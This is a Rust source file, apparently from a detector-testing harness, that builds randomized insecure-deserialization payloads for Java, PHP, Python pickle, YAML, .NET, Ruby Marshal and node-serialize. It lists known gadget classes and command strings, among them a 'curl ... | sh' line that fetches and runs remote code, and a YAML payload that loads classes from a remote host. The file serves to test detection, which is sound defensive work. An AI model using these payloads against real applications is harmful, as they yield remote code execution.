//! Serialized objects an application deserializes into code: Java object streams (base64 and
//! hex), PHP `serialize()` objects, Python pickles (text protocol 0 and base64 protocol 4/5),
//! YAML language tags, .NET `$type` and BinaryFormatter streams, Ruby Marshal streams (base64)
//! and node-serialize functions. Every stream is *built* here byte by byte — class names,
//! property lists, element counts and lengths vary — so the base64 forms land at every
//! alignment, rather than being copied from a payload list. × case and spacing where the format
//! allows × a transport layer.

use crate::mutate::{base64, join, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

pub struct Deserialization;

const JAVA_GADGETS: &[&str] = &[
    "org.apache.commons.collections.functors.InvokerTransformer",
    "org.apache.commons.collections4.functors.ChainedTransformer",
    "java.util.PriorityQueue",
    "sun.reflect.annotation.AnnotationInvocationHandler",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "java.util.HashMap",
    "javax.management.BadAttributeValueExpException",
];
const RUBY_GADGETS: &[&str] = &[
    "Gem::Requirement",
    "Gem::Installer",
    "Gem::SpecFetcher",
    "Gem::StubSpecification",
    "Gem::Package::TarReader",
    "Gem::RequestSet",
    "Net::WriteAdapter",
    "ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy",
];
const SYLLABLES: &[&str] = &["Log", "User", "Cache", "File", "Pop", "Chain", "Temp", "Config", "Mail", "Shell", "Db", "Item"];
const COMMANDS: &[&str] = &["id", "whoami", "touch /tmp/pwned", "curl http://198.51.100.7/x|sh", "nslookup x.oast.example"];

/// A PHP-looking class name from two or three syllables (`UserCache`, `Log_File`).
fn class_name(rng: &mut Rng) -> String {
    let parts = rng.range(2, 3);
    let sep = *rng.pick(&["", "", "_", "\\"]);
    (0..parts).map(|_| *rng.pick(SYLLABLES)).collect::<Vec<_>>().join(sep)
}

fn java(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    let class = rng.pick(JAVA_GADGETS);
    let mut stream = vec![0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, class.len() as u8];
    stream.extend_from_slice(class.as_bytes());
    stream.extend((0..rng.range(8, 40)).map(|_| rng.below(256) as u8));
    if rng.chance(0.3) {
        names.push("java-hex");
        stream.iter().map(|b| format!("{b:02x}")).collect()
    } else {
        names.push("java-base64");
        base64(&stream)
    }
}

fn php(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    names.push("php");
    let class = class_name(rng);
    let props = rng.range(1, 3);
    let body: String = (0..props)
        .map(|k| {
            let (name, value) = (format!("p{k}"), *rng.pick(COMMANDS));
            format!("s:{}:\"{name}\";s:{}:\"{value}\";", name.len(), value.len())
        })
        .collect();
    let object = format!("O:{}:\"{class}\":{props}:{{{body}}}", class.len());
    if rng.chance(0.3) {
        names.push("php-array");
        format!("a:1:{{i:0;{object}}}")
    } else {
        object
    }
}

fn python(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    let module = *rng.pick(&["os", "posix", "subprocess", "builtins"]);
    let func = *rng.pick(&["system", "popen", "check_output", "eval"]);
    let cmd = rng.pick(COMMANDS);
    if rng.chance(0.5) {
        names.push("pickle-text");
        format!("c{module}\n{func}\n(S'{cmd}'\ntR.")
    } else {
        // Protocol 4/5: PROTO, FRAME with an 8-byte little-endian length, then the opcodes
        // (SHORT_BINUNICODE module, name; STACK_GLOBAL; the argument; TUPLE1; REDUCE; STOP).
        names.push("pickle-base64");
        let mut body = Vec::new();
        for (k, text) in [module, func, cmd].iter().enumerate() {
            body.extend_from_slice(&[0x8c, text.len() as u8]);
            body.extend_from_slice(text.as_bytes());
            body.push(0x94);
            if k == 1 {
                body.extend_from_slice(&[0x93, 0x94]);
            }
        }
        body.extend_from_slice(&[0x85, b'R', 0x94, b'.']);
        let mut stream = vec![0x80, *rng.pick(&[4u8, 5]), 0x95];
        stream.extend_from_slice(&(body.len() as u64).to_le_bytes());
        stream.extend_from_slice(&body);
        base64(&stream)
    }
}

fn yaml(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    names.push("yaml");
    let cmd = rng.pick(COMMANDS);
    match rng.below(3) {
        0 => format!("!!python/object/apply:{} [\"{cmd}\"]", rng.pick(&["os.system", "subprocess.check_output", "os.popen"])),
        1 => format!("--- !ruby/object:{}\n  i: x", rng.pick(RUBY_GADGETS)),
        _ => format!(
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://198.51.100.{}/\"]]]]",
            rng.range(1, 254)
        ),
    }
}

fn dotnet(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    if rng.chance(0.5) {
        names.push("dotnet-type");
        let space = *rng.pick(&["", " ", "  "]);
        format!(
            "{{\"$type\":{space}\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{{\"$values\":[\"cmd\",\"/c {}\"]}}}}",
            rng.pick(COMMANDS)
        )
    } else {
        names.push("dotnet-binaryformatter");
        let mut stream = vec![0x00, 0x01, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0x01, 0x00, 0x00, 0x00];
        stream.extend((0..rng.range(8, 40)).map(|_| rng.below(256) as u8));
        base64(&stream)
    }
}

fn ruby(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    names.push("ruby-marshal");
    base64(&ruby_stream(rng))
}

/// A Marshal 4.8 stream holding a gadget-class object, maybe after a few integers in an array.
fn ruby_stream(rng: &mut Rng) -> Vec<u8> {
    let class = rng.pick(RUBY_GADGETS);
    let mut stream = vec![0x04, 0x08];
    // An array with a few plain elements first shifts the class name's base64 alignment
    // (Marshal writes a small integer n as the byte n + 5).
    let before = rng.below(4);
    if before > 0 || rng.chance(0.5) {
        stream.extend_from_slice(&[b'[', 5 + before as u8 + 1]);
        for _ in 0..before {
            stream.extend_from_slice(&[b'i', 5 + rng.below(100) as u8]);
        }
    }
    stream.extend_from_slice(&[b'o', b':', 5 + class.len() as u8]);
    stream.extend_from_slice(class.as_bytes());
    stream.extend((0..rng.range(4, 30)).map(|_| rng.below(256) as u8));
    stream
}

fn node(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    names.push("node-serialize");
    format!(
        "{{\"{}\":\"_$$ND_FUNC$$_function(){{require('child_process').exec('{}')}}()\"}}",
        rng.pick(&["rce", "user", "profile"]),
        rng.pick(COMMANDS)
    )
}

impl Family for Deserialization {
    fn name(&self) -> &'static str {
        "deserialization"
    }

    fn detector(&self) -> &'static str {
        "deserialization"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut names: Vec<&'static str> = Vec::new();
        let text = match rng.below(7) {
            0 => java(rng, &mut names),
            1 => php(rng, &mut names),
            2 => python(rng, &mut names),
            3 => yaml(rng, &mut names),
            4 => dotnet(rng, &mut names),
            5 => ruby(rng, &mut names),
            _ => node(rng, &mut names),
        };
        let (payload, layer) = transport_layer(rng, &text);
        names.push(layer);
        Variant { family: "deserialization", mutation: join(&names), payload, carrier: Carrier::Value }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn varied_and_seeded() {
        super::super::assert_varied_and_seeded(&Deserialization, 400, 300);
    }

    /// Each Ruby stream's class name lands at each of base64's three alignments somewhere in a
    /// sample, so the rule is measured on all of them.
    #[test]
    fn ruby_class_names_take_every_alignment() {
        let mut rng = Rng::new(3);
        let mut offsets = std::collections::BTreeSet::new();
        for _ in 0..200 {
            let stream = ruby_stream(&mut rng);
            let at = stream.windows(2).position(|w| w == b"o:").unwrap() + 3;
            offsets.insert(at % 3);
        }
        assert_eq!(offsets.len(), 3, "{offsets:?}");
    }
}
